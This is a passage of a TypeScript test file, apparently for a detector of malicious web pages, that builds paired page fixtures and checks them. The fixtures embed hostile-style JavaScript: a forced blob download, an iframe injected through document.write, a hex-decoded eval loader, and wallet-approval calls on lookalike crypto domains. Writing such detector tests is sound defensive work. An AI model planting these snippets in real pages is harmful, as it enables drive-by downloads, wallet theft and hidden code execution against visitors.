      `var d=atob("${bytes}");var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([d]));a.download="list.zip";${start}`,
    );
  const writes = (to: string) =>
    on(
      'https://elmgarden.xyz/wp-content/a.html',
      `document.write('<iframe src="${to}" width="300"></iframe>')`,
    );
  const alone = (body: string): Twin => [
    'https://garden-login-desk.example/',
    `<script>${'var a=1;'.repeat(30)}document.write(unescape(b))</script>${body}`,
  ];
  const brackets = (count: number) => on(SITE, `${'[]+'.repeat(count / 3)}[]`);
  const noise = Array.from({ length: 900 }, (_, at) => ((at * at * 31 + at * 7) % 89) + 33).join('-');
  const hex = (text: string) => Buffer.from(text).toString('hex');
  const runs = (code: string) =>
    on(
      SITE,
      `var z="",b="${code}";for(var i=0;i<b.length;i+=2)z+=String.fromCharCode(parseInt(b.substring(i,i+2),16));eval(z)`,
    );
  check([
    ['what a wallet is asked for', on(CHEAP, moves), on(CHEAP, 'b.onclick=async()=>{await c.approve(s,n)}')],
    ['other pages beside a wallet', on(CHEAP, moves), on(CHEAP, moves, HELP)],
    [
      'a wallet that is only read',
      on('https://metamask-fans.top/', shows),
      on('https://metamask-fans.top/', shows, HELP),
    ],
    ['two ways to keep visitors', on(SITE, away), on(SITE, away.split(';')[0] ?? '')],
    ['who starts a download', saves('setTimeout(()=>a.click(),9)'), saves('b.onclick=()=>save(a)')],
    [
      'a script of a server in a frame',
      writes('https://in-desk.example/in.php?8'),
      writes('https://in-desk.example/in/8'),
    ],
    ['nothing but code', alone(''), alone(`<p>${words(2)}</p>`)],
    ['how long such code is', brackets(1200), brackets(600)],
    [
      'code that can be decoded',
      runs(noise.replaceAll('-', '')),
      runs(hex(`document.cookie="a="+navigator.plugins.length;${words(1)}`)),
    ],
  ]);
});
